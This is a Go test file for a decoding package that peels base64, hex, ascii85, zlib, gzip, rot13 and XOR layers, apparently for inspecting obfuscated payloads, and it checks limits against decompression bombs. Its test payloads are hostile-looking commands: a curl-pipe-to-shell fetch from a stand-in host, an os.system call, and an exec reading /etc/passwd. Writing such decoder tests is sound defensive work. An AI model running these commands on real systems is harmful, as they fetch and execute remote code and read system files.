package decode

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base64"
	"encoding/hex"
	"slices"
	"testing"
)

func zlibBytes(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func gzipBytes(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func TestDecoders(t *testing.T) {
	payload := []byte("curl -fsSL https://x.example/i.sh | sh\n")
	a85 := make([]byte, ascii85.MaxEncodedLen(len(payload)))
	a85 = a85[:ascii85.Encode(a85, payload)]
	tests := []struct {
		name string
		fn   func(string) ([]byte, bool)
		in   string
		want []byte
		ok   bool
	}{
		{"base64-std", Base64, base64.StdEncoding.EncodeToString(payload), payload, true},
		{"base64-url-raw", Base64, base64.RawURLEncoding.EncodeToString(payload), payload, true},
		{"base64-wrapped", Base64, "Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBs\n  ZS9pLnNoIHwgc2gK", payload, true},
		{"base64-not", Base64, "not base64 at all!", nil, false},
		{"base64-short", Base64, "QQ", nil, false},
		{"hex-plain", Hex, hex.EncodeToString(payload), payload, true},
		{"hex-escaped", Hex, `\x63\x75\x72\x6c`, []byte("curl"), true},
		{"hex-0x-commas", Hex, "0x63, 0x75, 0x72, 0x6c", []byte("curl"), true},
		{"hex-odd", Hex, "abc", nil, false},
		{"hex-not", Hex, "zz", nil, false},
		{"ascii85", Ascii85, "<~" + string(a85) + "~>", payload, true},
		{"ascii85-bare", Ascii85, string(a85), payload, true},
		{"ascii85-bad", Ascii85, "<~\x01\x02\x03\x04\x05~>", nil, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := tc.fn(tc.in)
			if ok != tc.ok || !bytes.Equal(got, tc.want) {
				t.Errorf("got %q, %v; want %q, %v", got, ok, tc.want, tc.ok)
			}
		})
	}
}

func TestInflate(t *testing.T) {
	payload := bytes.Repeat([]byte("import os; os.system('id')\n"), 10)
	for name, in := range map[string][]byte{"zlib": zlibBytes(payload), "gzip": gzipBytes(payload)} {
		if got, ok := Inflate(in); !ok || !bytes.Equal(got, payload) {
			t.Errorf("%s: got %q, %v", name, got, ok)
		}
	}
	if _, ok := Inflate([]byte("plain text, not compressed")); ok {
		t.Error("plain text inflated")
	}
}

// TestInflateBomb checks that a decompression bomb is refused without
// allocating its full size.
func TestInflateBomb(t *testing.T) {
	bomb := zlibBytes(make([]byte, MaxOutput*4))
	if len(bomb) > MaxOutput/64 {
		t.Fatalf("bomb is %d bytes; not a bomb", len(bomb))
	}
	if out, ok := Inflate(bomb); ok || out != nil {
		t.Errorf("bomb inflated to %d bytes", len(out))
	}
}

func TestPeel(t *testing.T) {
	payload := []byte("exec(open('/etc/passwd').read())")
	layered := []byte(base64.StdEncoding.EncodeToString(zlibBytes([]byte(hex.EncodeToString(payload)))))
	got, layers := Peel(layered)
	if !bytes.Equal(got, payload) || !slices.Equal(layers, []string{"base64", "zlib", "hex"}) {
		t.Errorf("Peel = %q, %v", got, layers)
	}
	plain := []byte("just words here")
	if got, layers := Peel(plain); !bytes.Equal(got, plain) || len(layers) != 0 {
		t.Errorf("Peel(plain) = %q, %v", got, layers)
	}
	// Bounded: a value that decodes forever stops at MaxLayers.
	v := []byte("seed value that is long enough")
	for range MaxLayers + 3 {
		v = []byte(base64.StdEncoding.EncodeToString(v))
	}
	if _, layers := Peel(v); len(layers) > MaxLayers {
		t.Errorf("Peel removed %d layers, over the limit %d", len(layers), MaxLayers)
	}
}

func TestRot13XORPrintable(t *testing.T) {
	if got := Rot13("Uryyb, jbeyq!"); got != "Hello, world!" {
		t.Errorf("Rot13 = %q", got)
	}
	if got := XOR(XOR([]byte("secret"), []byte("k3y")), []byte("k3y")); string(got) != "secret" {
		t.Errorf("XOR round trip = %q", got)
	}
	if got := XOR([]byte("ab"), nil); string(got) != "ab" {
		t.Errorf("XOR with no key = %q", got)
	}
	if !Printable([]byte("print('hi')\n")) || Printable([]byte{0, 1, 2, 3, 0xff}) || Printable(nil) {
		t.Error("Printable misjudges")
	}
}

// FuzzDecoders holds every decoder to its bounds: no panic, no output
// beyond MaxOutput, at most MaxLayers peeled.
func FuzzDecoders(f *testing.F) {
	f.Add([]byte(base64.StdEncoding.EncodeToString([]byte("echo hi | sh"))))
	f.Add([]byte(`\x63\x75\x72\x6c`))
	f.Add([]byte("<~87cURD]i,\"Ebo80~>"))
	f.Add(zlibBytes([]byte("print(1)")))
	f.Add(gzipBytes([]byte("print(1)")))
	f.Add([]byte(base64.StdEncoding.EncodeToString(zlibBytes(make([]byte, 1<<16)))))
	f.Fuzz(func(t *testing.T, data []byte) {
		s := string(data)
		for _, fn := range []func(string) ([]byte, bool){Base64, Hex, Ascii85} {
			if out, ok := fn(s); len(out) > MaxOutput || !ok && out != nil && len(out) > 0 {
				t.Fatalf("decoder output %d bytes, ok=%v", len(out), ok)
			}
		}
		if out, _ := Inflate(data); len(out) > MaxOutput {
			t.Fatalf("inflate output %d bytes", len(out))
		}
		out, layers := Peel(data)
		if len(layers) > MaxLayers || len(out) > MaxOutput && len(layers) > 0 {
			t.Fatalf("peel: %d layers, %d bytes", len(layers), len(out))
		}
		_ = Rot13(s)
		_ = Printable(data)
	})
}
